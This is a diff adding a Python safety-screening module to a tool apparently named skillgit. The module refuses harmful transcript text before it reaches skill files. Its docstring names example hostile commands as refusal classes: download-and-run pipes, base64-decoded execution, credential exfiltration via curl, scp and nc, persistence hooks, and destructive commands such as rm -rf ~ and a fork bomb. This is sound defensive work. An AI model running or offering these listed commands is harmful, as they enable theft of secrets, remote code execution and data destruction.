@@ -1,0 +1,87 @@
+"""Keep transcript text that could harm a reader out of everything skillgit writes.
+
+Everything in a transcript is untrusted, and so is a model's answer. A skill is read by an
+agent that may act on it, and by a reviewer who may copy from it. The screen reads text by
+its *structure* — a forgiving shell parser (quotes, escapes, continuations, substitutions,
+wrappers, `$SHELL`, `$(which bash)`) and a data-flow check over the commands — not by a list of
+spellings. It refuses, by class:
+
+- **download-and-run**: anything fetched from the network (curl, wget, iwr, `python -c
+  urllib…`, `git clone`, …) that reaches something that executes or installs it: a pipe into
+  any shell or interpreter, `-c "$(…)"`, `<(…)`, `eval`, a saved file later run or sourced,
+  a clone later built, `pip install git+…`, `npm i user/repo`, `go run host/mod@v`;
+- **obfuscated code run**: decoded blobs run the same ways (`base64 -d | sh`, `-enc`);
+- **exfiltration**: local files or credentials sent out (`curl -F f=@.env`, `-T file`,
+  `wget --post-file`, `scp ~/.ssh/id_rsa host:`, `nc host < file`, `$(cat .env)` in a URL);
+- **credential access**: reading `~/.ssh`, `.env`, credential files, keychains, tokens;
+- **instruction aimed at the agent** (or the reviewer), and **hidden text** (invisible or
+  bidi characters, hidden comments addressing the model);
+- **persistence hook**: shell rc files, `$PROFILE`, git hooks, `.pth`, crontab, systemd and
+  launchd units, `authorized_keys`, `LD_PRELOAD`, `NODE_OPTIONS=--require`, `BASH_ENV`, …;
+- **destructive command**: `rm -rf ~`, `mkfs`, `dd of=/dev/sda`, a fork bomb, ….
+
+A download piped into a program as data is fine (`curl … | jq .`). Lower-risk text — a URL to
+a host the repository never names, `sudo` — is not refused: `notes` lists it for a visible
+"Review carefully" section. The screen is deliberately broad: a false alarm drops one quote or
+one proposal, a miss puts a harmful line in front of an agent.
+"""
+
+from __future__ import annotations
+
+import re
+
+from skillgit.safety import text as _text
+from skillgit.safety.findings import Finding
+from skillgit.safety.flow import analyse
+from skillgit.safety.review import ELEVATION, UNKNOWN_HOST, Note, hosts_in, notes
+from skillgit.safety.shell import parse
+
+__all__ = ["ELEVATION", "UNKNOWN_HOST", "Finding", "Note", "findings", "hosts_in",
+           "is_unsafe", "new_text", "notes", "refused", "unsafe_lines"]
+
+MAX_SCREENED = 200_000
+_TABLE_ROW = re.compile(r"^[ \t]*\|.*\|[ \t]*$", re.M)
+
+
+def _cells(row: re.Match[str]) -> str:
+    """A Markdown table row: each cell is its own line (a cell's `\\|` is a pipe again)."""
+    cells = re.split(r"(?<!\\)\|", row.group(0).strip().strip("|"))
+    return "\n".join(cell.replace("\\|", "|") for cell in cells)
+
+
+def findings(text: str | None) -> list[Finding]:
+    """Every reason `text` may not be copied into a proposal (one finding per detail)."""
+    if not text:
+        return []
+    text = text[:MAX_SCREENED]
+    plain = _text.normalize(text)
+    out = _text.findings(text, plain)
+    plain = _TABLE_ROW.sub(_cells, plain)
+    for prose in (False, True):  # a quote and an apostrophe read differently may hide a command
+        out += analyse(parse(plain, prose=prose))
+    return list(dict.fromkeys(out))
+
+
+def refused(text: str | None) -> list[str]:
+    """The classes of risk `text` carries, sorted (empty when it may be copied)."""
+    return sorted({f.risk for f in findings(text)})
+
+
+def is_unsafe(text: str | None) -> bool:
+    """True when the text carries something that must never be written into a proposal."""
+    return bool(findings(text))
+
+
+def new_text(text: str, ignore: str = "") -> str:
+    """The lines of `text` that are not already lines of `ignore`."""
+    known = set(ignore.splitlines())
+    return "\n".join(line for line in text.splitlines() if line not in known)
+
+
+def unsafe_lines(text: str, *, ignore: str = "") -> bool:
+    """`is_unsafe` for the lines of `text` that are not already lines of `ignore`.
+
+    An update appends to an existing `SKILL.md`; what was there before is the owner's text
+    (an install skill may well say `curl … | sh`), so only the new lines are screened.
+    """
+    return is_unsafe(new_text(text, ignore))
